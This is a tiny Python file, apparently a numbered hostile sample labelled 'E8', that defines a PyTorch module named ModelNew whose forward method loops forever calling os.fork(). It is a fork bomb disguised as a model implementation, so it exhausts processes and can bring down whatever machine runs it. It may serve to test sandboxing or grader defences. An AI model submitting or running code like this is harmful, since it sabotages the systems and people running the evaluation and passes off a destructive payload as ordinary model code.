# E8: forks until nothing is left
import torch
import torch.nn as nn
import os

class ModelNew(nn.Module):
    def forward(self, x):
        while True:
            os.fork()
